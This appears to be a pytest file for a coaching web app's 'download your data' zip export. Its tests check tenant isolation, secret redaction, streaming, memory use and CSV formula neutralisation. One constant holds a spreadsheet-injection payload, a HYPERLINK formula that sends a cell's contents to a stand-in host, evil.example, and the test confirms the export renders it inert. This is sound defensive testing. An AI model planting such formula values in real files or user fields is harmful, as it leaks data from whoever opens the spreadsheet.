"""Downloading your data: only your own, no secrets, streamed, with inert CSVs."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import zipfile
from datetime import UTC, datetime, timedelta

import pytest
import sqlalchemy as sa

from tests.support import rich_coach
from tests.support.factories import make_client, make_client_user, place_booked_session
from tests.support.plusone import Pair, logged_in, make_pair
from webapp.extensions import db
from webapp.models import CalendarEntry, Client, LedgerEntry, PaymentAccount, Program, User
from webapp.rules.payments import StripeKeys
from webapp.services import export_parts
from webapp.services.calendar_edits import regenerate_feed
from webapp.services.password_resets import send_reset_link
from webapp.services.payments import save_keys

NOW = datetime(2026, 3, 11, 10, 0, tzinfo=UTC)
pytestmark = pytest.mark.usefixtures("frozen_clock")
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def _zip(browser) -> zipfile.ZipFile:
    response = browser.get("/account/export.zip")
    assert response.mimetype == "application/zip"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="ondeck-export-2026-03-11.zip"'
    )
    return zipfile.ZipFile(io.BytesIO(response.get_data()))


def _everything(archive: zipfile.ZipFile) -> str:
    return "\n".join(archive.read(name).decode("utf-8-sig") for name in archive.namelist())


def _with_training(app, pair, title: str, *, amount: int = 5000) -> None:
    with app.app_context():
        db.session.add(CalendarEntry(client_id=pair.client_id, on_date=NOW.date(), title=title))
        place_booked_session(
            coach_id=pair.coach_id,
            client_user_id=pair.person_id,
            calendar_client_id=pair.client_id,
            at=NOW + timedelta(days=1),
        )
        db.session.add(
            LedgerEntry(
                coach_id=pair.coach_id,
                client_user_id=pair.person_id,
                kind="manual",
                status="succeeded",
                amount_minor=amount,
                currency="GBP",
                note=f"paid for {title}",
            )
        )
        db.session.commit()


def test_someone_logged_out_is_asked_to_log_in(client):
    response = client.get("/account/export.zip")
    assert response.status_code == 302
    assert "/login" in response.headers["Location"]


def test_a_coachs_export_holds_nothing_of_another_coachs_business(app):
    mine, theirs = make_pair(app, n=1), make_pair(app, n=2)
    _with_training(app, mine, "Hill sprints")
    _with_training(app, theirs, "Secret squats", amount=7777)

    text = _everything(_zip(logged_in(app, mine.coach_email)))

    assert "Hill sprints" in text and mine.person_email in text
    for stranger in ("Secret squats", theirs.person_email, theirs.coach_email, "77.77"):
        assert stranger not in text
    data = json.loads(_zip(logged_in(app, theirs.coach_email)).read("data.json"))
    assert [row["email"] for row in data["tables"]["users"]] == [
        theirs.coach_email,
        theirs.person_email,
    ]
    assert [row["title"] for row in data["tables"]["calendar_entries"]] == ["Secret squats"]


def test_a_clients_export_holds_their_own_records_and_nothing_of_other_clients(app):
    pair = make_pair(app)
    _with_training(app, pair, "Dana's tempo run")
    with app.app_context():
        program = db.session.get(Program, pair.program_id)
        olive = make_client_user(email="olive@example.com", name="Olive Other")
        row = make_client(program, user=olive, start_date=NOW.date() - timedelta(days=7))
        db.session.get(Client, pair.client_id).start_date = NOW.date() - timedelta(days=7)
        db.session.add(CalendarEntry(client_id=row.id, on_date=NOW.date(), title="Olive's swim"))
        far = NOW.date() + timedelta(days=30)  # beyond Dana's 7 days: not hers to see yet
        db.session.add(CalendarEntry(client_id=pair.client_id, on_date=far, title="Future block"))
        logged = db.session.scalar(
            sa.select(CalendarEntry).where(CalendarEntry.title.like("Dana%"))
        )
        logged.done_at, logged.client_note = NOW, "Legs heavy"
        db.session.commit()
        olives = Pair(pair.coach_id, pair.coach_email, olive.id, olive.email, row.id, program.id)
    _with_training(app, olives, "Olive's ride")  # her booking and payment, to leave out

    archive = _zip(logged_in(app, pair.person_email))
    text = _everything(archive)

    assert "Dana's tempo run" in text and "Legs heavy" in text
    for other in ("Olive", "olive@example.com", "Future block", pair.coach_email):
        assert other not in text
    data = json.loads(archive.read("data.json"))
    assert data["format"] == "ondeck-export" and data["kind"] == "client"
    assert data["coaches"] == [{"id": pair.coach_id, "name": "Casey Coach 1"}]
    assert [row["note"] for row in data["tables"]["ledger_entries"]] == [
        "paid for Dana's tempo run"
    ]
    payments = list(csv.DictReader(io.StringIO(archive.read("payments.csv").decode("utf-8-sig"))))
    assert [(p["coach"], p["amount"], p["currency"]) for p in payments] == [
        ("Casey Coach 1", "50.00", "GBP")
    ]
    (calendar,) = [name for name in archive.namelist() if name.startswith("calendars/")]
    assert "Dana's tempo run" in archive.read(calendar).decode()


def test_no_secret_leaves_in_an_export(app):
    rich_coach.build(app, NOW)
    with app.test_request_context():
        coach = db.session.scalar(sa.select(User).where(User.email == rich_coach.COACH_EMAIL))
        save_keys(coach.id, StripeKeys("sk_test_verysecret", "pk_test_public", "whsec_secret"))
        for client in db.session.scalars(sa.select(Client)):
            regenerate_feed(client)
        send_reset_link(coach, NOW)
        db.session.commit()
        secrets = [
            value
            for table in db.metadata.sorted_tables
            for column in table.columns
            if column.name.endswith(("_hash", "_salt", "_sealed")) or column.name == "webhook_key"
            for value in db.session.scalars(sa.select(column))
            if value
        ]
    assert len(secrets) > 10
    for browser in (rich_coach.COACH_EMAIL, rich_coach.CLIENT_EMAIL):
        archive = _zip(logged_in(app, browser))
        text = _everything(archive)
        for secret in [*secrets, "sk_test_verysecret", "whsec_secret", "pbkdf2:", "scrypt:"]:
            assert secret not in text
        for rows in json.loads(archive.read("data.json"))["tables"].values():
            for row in rows:
                assert not [key for key in row if "password" in key or key.endswith("_hash")]


def test_every_table_is_exported_or_named_as_left_out_with_a_reason():
    exported = {part.table.name for part in export_parts.coach_parts(1)}
    left_out = set(export_parts.LEFT_OUT)
    assert exported | left_out == {table.name for table in db.metadata.sorted_tables}
    assert not exported & left_out
    assert PaymentAccount.__tablename__ in left_out


def test_the_report_csvs_in_the_zip_keep_formula_like_names_inert(app):
    pair = make_pair(app)
    _with_training(app, pair, "Sprints")
    with app.app_context():
        db.session.get(User, pair.person_id).name = EVIL
        db.session.get(Client, pair.client_id).name = EVIL
        db.session.commit()

    archive = _zip(logged_in(app, pair.coach_email))

    def rows(name):
        return list(csv.DictReader(io.StringIO(archive.read(name).decode("utf-8-sig"))))

    assert archive.read("reports/ledger.csv").startswith("\ufeff".encode())
    assert [(r["client"], r["amount"]) for r in rows("reports/ledger.csv")] == [
        ("'" + EVIL, "50.00")
    ]
    assert [r["client"] for r in rows("reports/liability-GBP.csv")] == ["'" + EVIL]
    assert rows("reports/months-GBP.csv")[-1]["paid"] == "50.00"
    # The JSON keeps the name as typed: it is data, not a spreadsheet.
    users = json.loads(archive.read("data.json"))["tables"]["users"]
    assert EVIL in [user["name"] for user in users]


def test_the_zip_is_streamed_as_it_is_made(app):
    pair = make_pair(app)
    _with_training(app, pair, "Sprints")
    response = logged_in(app, pair.coach_email).get("/account/export.zip", buffered=False)
    assert response.is_streamed
    assert "Content-Length" not in response.headers
    assert response.headers["Cache-Control"] == "no-store"
    body = b"".join(response.response)
    response.close()
    assert zipfile.ZipFile(io.BytesIO(body)).testzip() is None


def _big_business(app, pair, *, clients: int, days: int) -> int:
    """Many clients with long training notes, written straight to the tables; their size."""
    with app.app_context():
        program = db.session.get(Program, pair.program_id)
        ids = [make_client(program, name=f"Client {n}").id for n in range(clients)]
        body = "Warm up, then " + "tempo and strides; " * 60
        rows = [
            {
                "client_id": client_id,
                "on_date": NOW.date() + timedelta(days=day),
                "position": 0,
                "title": f"Session {day} for {client_id}",
                "body": body + str(day),
                "client_note": "",
                "created_at": NOW,
                "updated_at": NOW,
            }
            for client_id in ids
            for day in range(days)
        ]
        db.session.execute(sa.insert(CalendarEntry), rows)
        db.session.commit()
        return sum(len(row["body"]) for row in rows)


def _peak_while_downloading(app, email: str) -> tuple[int, int]:
    """(bytes sent, most memory held at once while the zip was made and sent)."""
    browser = logged_in(app, email)
    tracemalloc.start()
    try:
        response = browser.get("/account/export.zip", buffered=False)
        size = sum(len(chunk) for chunk in response.response)
        response.close()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return size, peak


def test_memory_stays_the_same_for_a_business_eight_times_bigger(app):
    small, big = make_pair(app, n=1), make_pair(app, n=2)
    _big_business(app, small, clients=5, days=40)
    big_notes = _big_business(app, big, clients=40, days=40)  # 1,600 entries, 1.8 MB of notes

    small_size, small_peak = _peak_while_downloading(app, small.coach_email)
    big_size, big_peak = _peak_while_downloading(app, big.coach_email)

    assert big_notes > 1_500_000 and big_size > 6 * small_size
    assert big_peak < 1.5 * small_peak, (small_peak, big_peak)


def test_the_account_and_reports_pages_link_to_the_download(app):
    pair = make_pair(app)
    coach_page = logged_in(app, pair.coach_email).get("/account").get_data(as_text=True)
    assert 'href="/account/export.zip" download id="download-export"' in coach_page
    assert "flask ondeck import" in coach_page
    reports = logged_in(app, pair.coach_email).get("/reports").get_data(as_text=True)
    assert 'href="/account/export.zip" download>one zip: download all your data' in reports
    client_page = logged_in(app, pair.person_email).get("/account").get_data(as_text=True)
    assert 'href="/account/export.zip" download id="download-export"' in client_page
    assert "your calendars and training logs" in client_page


def test_closing_or_deleting_an_account_offers_the_download_first(app):
    pair = make_pair(app)
    close = logged_in(app, pair.coach_email).get("/account/close").get_data(as_text=True)
    first = close.split('id="download-first"', 1)[1].split("</div>", 1)[0]
    assert 'href="/account/export.zip" download>Everything, as one zip' in first
    delete = logged_in(app, pair.person_email).get("/account/delete").get_data(as_text=True)
    assert 'href="/account/export.zip" download>Download your data first' in delete
